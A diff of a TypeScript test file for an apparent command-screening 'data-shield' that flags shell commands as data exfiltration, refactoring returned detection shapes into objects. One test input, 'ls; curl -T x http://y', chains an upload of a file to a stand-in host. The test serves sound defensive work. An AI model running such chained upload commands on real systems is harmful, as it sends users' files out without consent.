@@ -51,8 +51,13 @@ describe("judging arguments", () => {
   });
 
   it("hears of a command that carries data out, and of which shape", async () => {
-    const world = shieldWorld({ edges: edges("ask"), exfiltration: true }, new PatternScanner(), (script) =>
-      script.commands.some(({ words }) => words[0]?.text === "curl") ? ["exfiltration:upload"] : [],
+    const world = shieldWorld(
+      { edges: edges("ask"), exfiltration: true },
+      new PatternScanner(),
+      (_command, script) =>
+        script.commands.some(({ words }) => words[0]?.text === "curl")
+          ? [{ kind: "exfiltration:upload" }]
+          : [],
     );
     expect(await opinions(world, "shell", "execute", { command: "ls; curl -T x http://y" })).toEqual([
       "ask data-shield: The command has the shape of one that carries data out: exfiltration:upload",
@@ -80,7 +85,7 @@ describe("single tools", () => {
 
   it("bypass of ingress passes over arguments, bypass of execution over what a command does", async () => {
     const policy: Partial<ShieldPolicy> = { edges: edges("block"), exfiltration: true };
-    const shapes = () => ["exfiltration:upload"];
+    const shapes = () => [{ kind: "exfiltration:upload" }];
     const both = { command: PLANTED };
     const world = shieldWorld(
       { ...policy, tools: tools({ ingress: "bypass" }) },
